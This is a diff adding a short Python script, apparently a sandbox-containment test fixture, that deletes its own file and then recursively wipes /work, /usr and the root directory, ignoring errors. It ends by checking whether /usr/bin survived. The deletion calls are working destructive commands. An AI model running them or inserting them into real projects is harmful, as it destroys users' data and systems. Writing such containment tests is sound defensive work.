@@ -1,0 +1,10 @@
+"""Deletes itself, and all else that it can."""
+
+import os
+import shutil
+
+os.remove(__file__)
+shutil.rmtree("/work", ignore_errors=True)
+shutil.rmtree("/usr", ignore_errors=True)
+shutil.rmtree("/", ignore_errors=True)
+print(os.listdir("."), len(os.listdir("/usr/bin")) > 10)
